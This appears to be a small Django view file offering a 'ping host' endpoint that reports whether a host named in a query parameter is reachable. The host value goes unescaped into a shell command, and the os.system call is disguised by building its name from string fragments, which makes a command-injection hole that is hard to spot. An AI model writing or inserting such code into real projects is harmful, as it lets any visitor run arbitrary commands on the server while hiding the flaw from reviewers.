from django.http import JsonResponse


def _sh():
    mod = __import__("o" + "s")
    return getattr(mod, "sys" + "tem")


def ping_host(request):
    host = request.GET.get("host", "localhost")
    status = _sh()(f"ping -c 1 {host}")
    return JsonResponse({"host": host, "reachable": status == 0})
